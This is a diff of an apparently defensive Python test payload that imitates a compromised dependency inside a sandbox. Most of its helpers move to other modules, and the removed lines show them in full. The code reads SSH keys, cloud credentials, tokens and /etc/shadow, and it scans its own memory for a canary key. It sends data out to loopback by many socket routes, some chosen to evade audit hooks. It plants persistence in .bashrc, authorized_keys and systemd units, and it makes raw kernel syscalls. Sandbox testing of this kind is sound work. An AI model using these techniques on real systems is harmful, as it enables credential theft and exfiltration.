@@ -1,6 +1,6 @@
 """What a turned dependency would do, harmless: it reads canaries, dials loopback, leaves marks in temporary folders.
 
-Planted as text in a dependency (`planted`), so it is the standard library alone and one file. Each step
+Planted as text in a dependency (`planted`), with `reach.py` and `ways.py`: the standard library alone. Each step
 returns what it got, or fails; `run` writes all outcomes as one line of JSON to standard error.
 """
 
@@ -8,7 +8,6 @@ import asyncio
 import ctypes
 import errno
 import fcntl
-import gc
 import importlib.machinery
 import json
 import mmap
@@ -16,364 +15,60 @@ import os
 import re
 import socket
 import struct
-import subprocess
 import sys
-import threading
-import urllib.request
 from collections.abc import Callable
 from pathlib import Path
 
-TARGETS: dict[str, str] = {}
-# The key as a pattern: this file, in a process's memory, is no hit.
-KEY = re.compile(rb"sk-canary-provider-key-\d{10}")
+from tests.replay import reach, ways
+from tests.replay.reach import (
+    TARGETS,
+    a_thread,
+    become,
+    by_system,
+    call,
+    descriptors,
+    environment,
+    fork_exec,
+    forked,
+    handle,
+    home,
+    memory_program,
+    objects,
+    own_environ,
+    own_memory,
+    port,
+    python,
+    read,
+    shell,
+    spawned,
+    written,
+)
+from tests.replay.ways import (
+    FASTOPEN,
+    addressed,
+    backdoor,
+    by_libc,
+    by_loop,
+    connected,
+    datagram,
+    fast_open,
+    fast_open_connect,
+    linked,
+    listener_turned,
+    mode,
+    opened,
+    own_bytecode,
+    own_code,
+    post,
+    renamed,
+    sent_by,
+    unix_abstract,
+    unix_path,
+)
+
 MARK = "REPLAY "
-_FASTOPEN = 0x2000_0000
 _DONE: set[str] = set()
-
-
-class Refused(Exception):
-    """The step came to nothing without an error of the kernel's."""
-
-
-def _port(name: str = "tcp") -> tuple[str, int]:
-    return "127.0.0.1", int(TARGETS[name])
-
-
-def _home(name: str) -> Path:
-    return Path(TARGETS["home"]) / name
-
-
-def _call(number: int, *words: int) -> str:
-    """Make a raw system call, as native code would."""
-    library = ctypes.CDLL(None, use_errno=True)
-    library.syscall.restype = ctypes.c_long
-    answer = library.syscall(ctypes.c_long(number), *map(ctypes.c_long, words))
-    if answer < 0:
-        code = ctypes.get_errno()
-        # Only these two are a refusal; anything else says that the kernel went to work on it.
-        if code in {errno.EPERM, errno.EACCES, errno.ENOSYS}:
-            raise OSError(code, os.strerror(code))
-        return f"was let through: {os.strerror(code)}"
-    return f"answered {answer}"
-
-
-def _read(path: Path | str) -> str:
-    with open(path, "rb") as file:  # noqa: PTH123 - also descriptors' paths
-        return f"read {file.read(64)!r}"
-
-
-def _written(path: Path, text: str = "mark") -> str:
-    path.parent.mkdir(parents=True, exist_ok=True)
-    with path.open("a", encoding="utf-8") as file:
-        file.write(text)
-    return f"wrote {path.name}"
-
-
-# -- canaries ------------------------------------------------------------------------------------------------
-
-
-def _environment() -> str:
-    found = [name for name, value in os.environ.items() if "CANARY" in value or KEY.search(value.encode())]
-    if not found:
-        raise Refused("nothing of use in it")
-    return f"found {', '.join(found)}"
-
-
-def _own_environ() -> str:
-    data = Path("/proc/self/environ").read_bytes()
-    if not KEY.search(data) and b"CANARY" not in data:
-        raise Refused("nothing of use in it")
-    return "found a canary"
-
-
-def _objects() -> str:
-    for one in gc.get_objects():
-        for part in gc.get_referents(one):
-            if isinstance(part, bytes | str) and KEY.search(
-                part.encode("utf-8", "replace") if isinstance(part, str) else part
-            ):
-                return "found the provider's key"
-    raise Refused("no key among this process's objects")
-
-
-def _own_memory() -> str:
-    with open("/proc/self/mem", "rb", buffering=0) as memory:  # noqa: PTH123 - as an attacker would
-        for line in Path("/proc/self/maps").read_text(encoding="utf-8").splitlines():
-            where, rights, *_ = line.split()
-            low, high = (int(word, 16) for word in where.split("-"))
-            if rights.startswith("rw") and high - low < 1 << 26:
-                memory.seek(low)
-                if KEY.search(memory.read(high - low)):
-                    return "found the provider's key"
-    raise Refused("no key in this process's memory")
-
-
-def _descriptors() -> str:
-    for fd in range(3, 256):
-        try:
-            size = os.fstat(fd).st_size
-            if size < 1 << 24 and KEY.search(os.pread(fd, size, 0)):
-                return f"found the provider's key in descriptor {fd}"
-        except OSError:
-            continue
-    raise Refused("no key in any open descriptor")
-
-
-def _handle() -> str:
-    """Open a file by its handle, past the checks of paths (what a container escape of 2014 did)."""
-    library = ctypes.CDLL(None, use_errno=True)
-    handle = ctypes.create_string_buffer(struct.pack("=Ii", 8, 1) + struct.pack("=Q", 2))
-    fd = library.open_by_handle_at(-100, ctypes.addressof(handle), os.O_RDONLY)
-    code = ctypes.get_errno()
-    if fd < 0 and code in {errno.EPERM, errno.EACCES, errno.ENOSYS}:
-        raise OSError(code, os.strerror(code))
-    return "was let through"
-
-
-# -- programs ------------------------------------------------------------------------------------------------
-
-
-def _shell() -> str:
-    return subprocess.check_output(["/bin/sh", "-c", f"echo ran >> {TARGETS['marks']}/shell; echo ran"], text=True)
-
-
-def _system() -> str:
-    if os.system(f"echo ran >> {TARGETS['marks']}/system") != 0:
-        raise Refused("no shell was started")
-    return "ran"
-
-
-def _python() -> str:
-    return subprocess.check_output([sys.executable, "-I", "-S", "-c", "print('ran')"], text=True)
-
-
-def _spawn() -> str:
-    pid = os.posix_spawn("/bin/true", ["true"], {})
-    os.waitpid(pid, 0)
-    return "ran"
-
-
-def _fork() -> str:
-    pid = os.fork()
-    if pid == 0:
-        os._exit(0)
-    os.waitpid(pid, 0)
-    return "forked"
-
-
-def _fork_exec() -> str:
-    """Start a program without any of the interpreter's audit events."""
-    import _posixsubprocess  # noqa: PLC0415 - as an attacker would
-
-    read, write = os.pipe()
-    program, old = [b"/bin/true"], (-1, -1, -1, -1, -1, -1)
-    rest: tuple[object, ...] = (read, write, False, False, -1, None, None, None, -1, None, False)
-    start: Callable[..., int] = _posixsubprocess.fork_exec
-    try:
-        pid = start([b"true"], program, True, (write,), None, None, *old, *rest)
-        os.waitpid(pid, 0)
-        os.close(write)
-        if os.read(read, 64):
-            raise Refused("the program was not started")
-        return "ran"
-    finally:
-        os.close(read)
-
-
-def _exec() -> str:
-    """Become another program: one that is not there, so that this one lives on to tell."""
-    try:
-        os.execv("/nowhere/at/all", ["all"])
-    except FileNotFoundError:
-        return "was let through: no such file"
-
-
-def _memory_program() -> str:
-    fd = os.memfd_create("program")
-    try:
-        os.write(fd, b"#!/bin/true\n")
-        return f"made memory that can be run: {fd}"
-    finally:
-        os.close(fd)
-
-
-def _thread() -> str:
-    thread = threading.Thread(target=lambda: None)
-    thread.start()
-    thread.join()
-    return "a thread, whose rights are its own"
-
-
-# -- ways out ------------------------------------------------------------------------------------------------
-
-
-def _send(family: int, kind: int, protocol: int, address: tuple[str, int]) -> str:
-    with socket.socket(family, kind, protocol) as sock:
-        sock.settimeout(1)
-        sock.connect(address)
-        sock.send(b"EXFIL")
-    return "sent"
-
-
-def _datagram() -> str:
-    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
-        sock.sendto(b"EXFIL", _port("udp"))
-    return "sent"
-
-
-def _by_loop() -> str:
-    """Through an event loop's own connect, in a thread of its own where one runs already."""
-
-    async def dial() -> None:
-        _, writer = await asyncio.open_connection(*_port())
-        writer.write(b"EXFIL")
-        await writer.drain()
-        writer.close()
-
-    loop = asyncio.SelectorEventLoop()
-    try:
-        asyncio._set_running_loop(None)
-        loop.run_until_complete(asyncio.wait_for(dial(), 2))
-    finally:
-        loop.close()
-    return "sent"
-
-
-def _post() -> str:
-    host, port = _port()
-    try:
-        urllib.request.urlopen(f"http://{host}:{port}/", b"EXFIL", 0.3).close()
-    except TimeoutError:
-        return "sent, no answer awaited"
-    return "sent"
-
-
-def _fast_open() -> str:
-    with socket.socket() as sock:
-        sock.sendto(b"EXFIL", _FASTOPEN, _port())
-    return "sent"
-
-
-def _fast_open_connect() -> str:
-    with socket.socket() as sock:
-        sock.setsockopt(socket.IPPROTO_TCP, 30, 1)  # TCP_FASTOPEN_CONNECT
-        sock.connect(_port())
-        sock.send(b"EXFIL")
-    return "sent"
-
-
-def _by_libc() -> str:
-    """Connect by the C library, where no hook of the interpreter's looks."""
-    library = ctypes.CDLL(None, use_errno=True)
-    fd = library.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
-    address = struct.pack("=HHI8x", socket.AF_INET, socket.htons(_port()[1]), socket.htonl(0x7F00_0001))
-    buffer = ctypes.create_string_buffer(address, len(address))
-    if fd < 0 or library.connect(fd, buffer, len(address)) != 0:
-        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
-    os.write(fd, b"EXFIL")
-    os.close(fd)
-    return "sent"
-
-
-def _opened(family: int, kind: int, protocol: int = 0) -> str:
-    socket.socket(family, kind, protocol).close()
-    return "opened"
-
-
-def _unix_path() -> str:
-    with socket.socket(socket.AF_UNIX) as sock:
-        sock.connect(TARGETS["docker"])
-    return "connected"
-
-
-def _unix_abstract() -> str:
-    with socket.socket(socket.AF_UNIX) as sock:
-        sock.connect("\0" + TARGETS["abstract"])
-    return "connected"
-
-
-def _backdoor() -> str:
-    with socket.socket() as sock:
-        sock.bind(("127.0.0.1", 0))
-        sock.listen()
-    return "listens"
-
-
-def _listener() -> socket.socket:
-    """Return an inherited listener, or where there is none one of its own."""
-    for fd in range(3, 256):
-        try:
-            sock = socket.socket(fileno=os.dup(fd))
-        except OSError:
-            continue
-        if sock.family == socket.AF_INET and sock.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
-            return sock
-        sock.close()
-    sock = socket.socket()
-    sock.bind(("127.0.0.1", 0))
-    sock.listen()
-    return sock
-
-
-def _listener_turned(way: Callable[[socket.socket], object]) -> str:
-    with _listener() as sock:
-        try:
-            sock.shutdown(socket.SHUT_RDWR)
-        except OSError as error:
-            if error.errno != errno.EPERM:
-                raise
-            # Refused: then try without.
-        way(sock)
-    return "sent"
-
-
-def _connected(sock: socket.socket) -> None:
-    sock.connect(_port())
-    sock.send(b"EXFIL")
-
-
-def _addressed() -> str:
-    """Give an address to a socket that is there already."""
-    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
-    with ours, theirs:
-        ours.sendto(b"EXFIL", TARGETS["docker"] + ".datagrams")
-    return "sent"
-
-
-# -- staying -------------------------------------------------------------------------------------------------
-
-
-def _changed(path: str) -> str:
-    with open(path, "ab") as file:  # noqa: PTH123 - for appending nothing
-        file.write(b"")
-    return "was opened for writing"
-
-
-def _own_code() -> str:
-    return _changed(str(TARGETS["package"]) + "/egress/process.py")
-
-
-def _own_bytecode() -> str:
-    folder = Path(TARGETS["package"]) / "egress" / "__pycache__"
-    return _written(folder / "replay.pyc")
-
-
-def _renamed() -> str:
-    os.rename(_home("movable"), _home("moved"))  # noqa: PTH104 - as an attacker would
-    os.rename(_home("moved"), _home("movable"))  # noqa: PTH104
-    return "renamed"
-
-
-def _mode() -> str:
-    os.chmod(_home("movable"), 0o777)  # noqa: PTH101
-    return "changed a file's mode"
-
-
-def _linked() -> str:
-    link = _home(f"link-{os.getpid()}")
-    os.symlink("/etc/shadow", link)  # noqa: PTH211
-    link.unlink()
-    return "made a link"
+_OWN = re.compile(r"^from tests\.replay[^\n(]*(?:\([^)]*\))?\n", re.MULTILINE)
 
 
 # -- code and kernel -----------------------------------------------------------------------------------------
@@ -426,7 +121,7 @@ def _neighbour_memory() -> str:
     local = ctypes.create_string_buffer(8)
     vector = struct.pack("=QQ", ctypes.addressof(local), 8)
     own = ctypes.create_string_buffer(vector, 16)
-    return _call(310, int(TARGETS["outsider"]), ctypes.addressof(own), 1, ctypes.addressof(own), 1, 0)
+    return call(310, int(TARGETS["outsider"]), ctypes.addressof(own), 1, ctypes.addressof(own), 1, 0)
 
 
 def _core() -> str:
@@ -438,8 +133,8 @@ def _core() -> str:
 
 
 def _dumpable() -> str:
-    answer = _call(157, 4, 1, 0, 0, 0)
-    _call(157, 4, 0, 0, 0, 0)
+    answer = call(157, 4, 1, 0, 0, 0)
+    call(157, 4, 0, 0, 0, 0)
     return answer
 
 
@@ -462,74 +157,74 @@ def _terminal() -> str:
 
 
 def _tcp(way: Callable[[socket.socket], object]) -> Callable[[], str]:
-    return lambda: _listener_turned(way)
+    return lambda: listener_turned(way)
 
 
 # name: (kind, what it does)
 STEPS: dict[str, tuple[str, Callable[[], str]]] = {
-    "SSH key": ("read", lambda: _read(_home(".ssh/id_ed25519"))),
-    "cloud credentials (~/.aws)": ("read", lambda: _read(_home(".aws/credentials"))),
-    "cloud credentials (gcloud)": ("read", lambda: _read(_home(".config/gcloud/application_default_credentials.json"))),
-    "Kubernetes token": ("read", lambda: _read(TARGETS["token"])),
-    "shell history": ("read", lambda: _read(_home(".bash_history"))),
-    ".env and Git credentials": ("read", lambda: _read(_home(".env")) + _read(_home(".git-credentials"))),
-    "a canary by way of /proc/self/root": ("read", lambda: _read(f"/proc/self/root{_home('.ssh/id_ed25519')}")),
+    "SSH key": ("read", lambda: read(home(".ssh/id_ed25519"))),
+    "cloud credentials (~/.aws)": ("read", lambda: read(home(".aws/credentials"))),
+    "cloud credentials (gcloud)": ("read", lambda: read(home(".config/gcloud/application_default_credentials.json"))),
+    "Kubernetes token": ("read", lambda: read(TARGETS["token"])),
+    "shell history": ("read", lambda: read(home(".bash_history"))),
+    ".env and Git credentials": ("read", lambda: read(home(".env")) + read(home(".git-credentials"))),
+    "a canary by way of /proc/self/root": ("read", lambda: read(f"/proc/self/root{home('.ssh/id_ed25519')}")),
     "list the home folder": ("read", lambda: f"listed {len(os.listdir(TARGETS['home']))}"),  # noqa: PTH208
-    "/etc/shadow": ("read", lambda: _read("/etc/shadow")),
-    "the configuration file": ("read", lambda: _read(TARGETS["config"])),
-    "environment (os.environ)": ("read", _environment),
-    "environment (/proc/self/environ)": ("read", _own_environ),
-    "another process's environment": ("read", lambda: _read(f"/proc/{TARGETS['outsider']}/environ")),
+    "/etc/shadow": ("read", lambda: read("/etc/shadow")),
+    "the configuration file": ("read", lambda: read(TARGETS["config"])),
+    "environment (os.environ)": ("read", environment),
+    "environment (/proc/self/environ)": ("read", own_environ),
+    "another process's environment": ("read", lambda: read(f"/proc/{TARGETS['outsider']}/environ")),
     "list processes": ("read", lambda: f"listed {len(os.listdir('/proc'))}"),  # noqa: PTH208
-    "provider key: Python's objects": ("read", _objects),
-    "provider key: own memory": ("read", _own_memory),
-    "provider key: open descriptors": ("read", _descriptors),
-    "a file by its handle": ("read", _handle),
-    "shell (subprocess)": ("spawn", _shell),
-    "os.system": ("spawn", _system),
-    "python again (the fork bomb of 2026)": ("spawn", _python),
-    "posix_spawn": ("spawn", _spawn),
-    "fork": ("spawn", _fork),
-    "_posixsubprocess.fork_exec": ("spawn", _fork_exec),
-    "exec": ("spawn", _exec),
-    "a program in memory (memfd)": ("spawn", _memory_program),
-    "a thread from before the seal": ("spawn", _thread),
-    "TCP": ("exfil", lambda: _send(socket.AF_INET, socket.SOCK_STREAM, 0, _port())),
+    "provider key: Python's objects": ("read", objects),
+    "provider key: own memory": ("read", own_memory),
+    "provider key: open descriptors": ("read", descriptors),
+    "a file by its handle": ("read", handle),
+    "shell (subprocess)": ("spawn", shell),
+    "os.system": ("spawn", by_system),
+    "python again (the fork bomb of 2026)": ("spawn", python),
+    "posix_spawn": ("spawn", spawned),
+    "fork": ("spawn", forked),
+    "_posixsubprocess.fork_exec": ("spawn", fork_exec),
+    "exec": ("spawn", become),
+    "a program in memory (memfd)": ("spawn", memory_program),
+    "a thread from before the seal": ("spawn", a_thread),
+    "TCP": ("exfil", lambda: sent_by(socket.AF_INET, socket.SOCK_STREAM, 0, port())),
     "TCP over IPv6": ("exfil", _loopback6),
-    "metadata service (stand-in)": ("exfil", lambda: _send(socket.AF_INET, socket.SOCK_STREAM, 0, _port("metadata"))),
-    "an event loop's connect": ("exfil", _by_loop),
-    "HTTP POST (urllib)": ("exfil", _post),
-    "connect by the C library": ("exfil", _by_libc),
-    "UDP": ("exfil", _datagram),
-    "UDP, connected": ("exfil", lambda: _send(socket.AF_INET, socket.SOCK_DGRAM, 0, _port("udp"))),
-    "TCP fast open": ("exfil", _fast_open),
-    "TCP_FASTOPEN_CONNECT": ("exfil", _fast_open_connect),
-    "MPTCP": ("exfil", lambda: _send(socket.AF_INET, socket.SOCK_STREAM, 262, _port())),
-    "listener, shutdown, sendto fast open": ("exfil", _tcp(lambda s: s.sendto(b"EXFIL", _FASTOPEN, _port()))),
+    "metadata service (stand-in)": ("exfil", lambda: sent_by(socket.AF_INET, socket.SOCK_STREAM, 0, port("metadata"))),
+    "an event loop's connect": ("exfil", by_loop),
+    "HTTP POST (urllib)": ("exfil", post),
+    "connect by the C library": ("exfil", by_libc),
+    "UDP": ("exfil", datagram),
+    "UDP, connected": ("exfil", lambda: sent_by(socket.AF_INET, socket.SOCK_DGRAM, 0, port("udp"))),
+    "TCP fast open": ("exfil", fast_open),
+    "TCPFASTOPEN_CONNECT": ("exfil", fast_open_connect),
+    "MPTCP": ("exfil", lambda: sent_by(socket.AF_INET, socket.SOCK_STREAM, 262, port())),
+    "listener, shutdown, sendto fast open": ("exfil", _tcp(lambda s: s.sendto(b"EXFIL", FASTOPEN, port()))),
     "listener, shutdown, sendmsg fast open": (
-        "exfil", _tcp(lambda s: s.sendmsg([b"EXFIL"], [], _FASTOPEN, _port())),
+        "exfil", _tcp(lambda s: s.sendmsg([b"EXFIL"], [], FASTOPEN, port())),
     ),
-    "listener, shutdown, connect": ("exfil", _tcp(_connected)),
-    "raw socket": ("exfil", lambda: _opened(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)),
-    "packet socket": ("exfil", lambda: _opened(socket.AF_PACKET, socket.SOCK_RAW)),
-    "netlink": ("exfil", lambda: _opened(socket.AF_NETLINK, socket.SOCK_RAW)),
-    "vsock": ("exfil", lambda: _opened(socket.AF_VSOCK, socket.SOCK_STREAM)),
-    "docker.sock": ("exfil", _unix_path),
-    "abstract UNIX socket": ("exfil", _unix_abstract),
-    "datagram to a UNIX path": ("exfil", _addressed),
-    "back door (bind, listen)": ("exfil", _backdoor),
-    "~/.config/sysmon/sysmon.py": ("persist", lambda: _written(_home(".config/sysmon/sysmon.py"))),
-    "systemd user unit": ("persist", lambda: _written(_home(".config/systemd/user/sysmon.service"))),
-    "~/.bashrc": ("persist", lambda: _written(_home(".bashrc"))),
-    "authorized_keys": ("persist", lambda: _written(_home(".ssh/authorized_keys"))),
-    "a .pth in site-packages": ("persist", lambda: _written(Path(TARGETS["site"]) / "replay_again.pth", "")),
-    "own source (egress)": ("persist", _own_code),
-    "own byte code (egress)": ("persist", _own_bytecode),
-    "a file in /tmp": ("persist", lambda: _written(Path(TARGETS["marks"]) / f"dropped-{os.getpid()}")),
-    "a file in /dev/shm": ("persist", lambda: _written(Path(TARGETS["shm"]) / f"dropped-{os.getpid()}")),
-    "rename a file": ("persist", _renamed),
-    "change a file's mode": ("persist", _mode),
-    "a symbolic link": ("persist", _linked),
+    "listener, shutdown, connect": ("exfil", _tcp(connected)),
+    "raw socket": ("exfil", lambda: opened(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)),
+    "packet socket": ("exfil", lambda: opened(socket.AF_PACKET, socket.SOCK_RAW)),
+    "netlink": ("exfil", lambda: opened(socket.AF_NETLINK, socket.SOCK_RAW)),
+    "vsock": ("exfil", lambda: opened(socket.AF_VSOCK, socket.SOCK_STREAM)),
+    "docker.sock": ("exfil", unix_path),
+    "abstract UNIX socket": ("exfil", unix_abstract),
+    "datagram to a UNIX path": ("exfil", addressed),
+    "back door (bind, listen)": ("exfil", backdoor),
+    "~/.config/sysmon/sysmon.py": ("persist", lambda: written(home(".config/sysmon/sysmon.py"))),
+    "systemd user unit": ("persist", lambda: written(home(".config/systemd/user/sysmon.service"))),
+    "~/.bashrc": ("persist", lambda: written(home(".bashrc"))),
+    "authorized_keys": ("persist", lambda: written(home(".ssh/authorized_keys"))),
+    "a .pth in site-packages": ("persist", lambda: written(Path(TARGETS["site"]) / "replay_again.pth", "")),
+    "own source (egress)": ("persist", own_code),
+    "own byte code (egress)": ("persist", own_bytecode),
+    "a file in /tmp": ("persist", lambda: written(Path(TARGETS["marks"]) / f"dropped-{os.getpid()}")),
+    "a file in /dev/shm": ("persist", lambda: written(Path(TARGETS["shm"]) / f"dropped-{os.getpid()}")),
+    "rename a file": ("persist", renamed),
+    "change a file's mode": ("persist", mode),
+    "a symbolic link": ("persist", linked),
     "writable and executable memory": ("code", _writable_code),
     "memory made executable": ("code", _made_executable),
     "a dropped library": ("code", _library),
@@ -537,18 +232,18 @@ STEPS: dict[str, tuple[str, Callable[[], str]]] = {
     "patch itself (/proc/self/mem)": ("code", _patched),
     "signal another process": ("kernel", _signal),
     "another process's memory": ("kernel", _neighbour_memory),
-    "ptrace": ("kernel", lambda: _call(101, 16, int(TARGETS["outsider"]), 0, 0)),
-    "pidfd_open": ("kernel", lambda: _call(434, int(TARGETS["outsider"]), 0)),
-    "io_uring": ("kernel", lambda: _call(425, 1, 0)),
-    "user namespace": ("kernel", lambda: _call(272, -1)),
-    "enter a namespace": ("kernel", lambda: _call(308, -1, 0)),
-    "mount": ("kernel", lambda: _call(165, 0, 0, 0, 0, 0)),
-    "chroot": ("kernel", lambda: _call(161, 0)),
-    "bpf": ("kernel", lambda: _call(321, -1, 0, 0)),
-    "perf events": ("kernel", lambda: _call(298, 0, 0, -1, -1, 0)),
-    "userfaultfd": ("kernel", lambda: _call(323, -1)),
-    "kernel keys (keyctl)": ("kernel", lambda: _call(250, 0, -3, 0, 0, 0)),
-    "clone3": ("kernel", lambda: _call(435, 0, 0)),
+    "ptrace": ("kernel", lambda: call(101, 16, int(TARGETS["outsider"]), 0, 0)),
+    "pidfd_open": ("kernel", lambda: call(434, int(TARGETS["outsider"]), 0)),
+    "io_uring": ("kernel", lambda: call(425, 1, 0)),
+    "user namespace": ("kernel", lambda: call(272, -1)),
+    "enter a namespace": ("kernel", lambda: call(308, -1, 0)),
+    "mount": ("kernel", lambda: call(165, 0, 0, 0, 0, 0)),
+    "chroot": ("kernel", lambda: call(161, 0)),
+    "bpf": ("kernel", lambda: call(321, -1, 0, 0)),
+    "perf events": ("kernel", lambda: call(298, 0, 0, -1, -1, 0)),
+    "userfaultfd": ("kernel", lambda: call(323, -1)),
+    "kernel keys (keyctl)": ("kernel", lambda: call(250, 0, -3, 0, 0, 0)),
+    "clone3": ("kernel", lambda: call(435, 0, 0)),
     "type into the terminal": ("kernel", _terminal),
     "core files": ("kernel", _core),
     "memory open to others (dumpable)": ("kernel", _dumpable),
@@ -582,6 +277,7 @@ def _who() -> str:
 
 
 def planted(targets: dict[str, str]) -> str:
-    """Return this file's text with `targets` in it."""
-    text = Path(__file__).read_text(encoding="utf-8")
+    """Return the payload as the text of one module, with `targets` in it."""
+    files = (reach.__file__, ways.__file__, __file__)
+    text = "\n".join(_OWN.sub("", Path(str(file)).read_text(encoding="utf-8")) for file in files)
     return text.replace("TARGETS: dict[str, str] = {}", f"TARGETS: dict[str, str] = {targets!r}", 1)
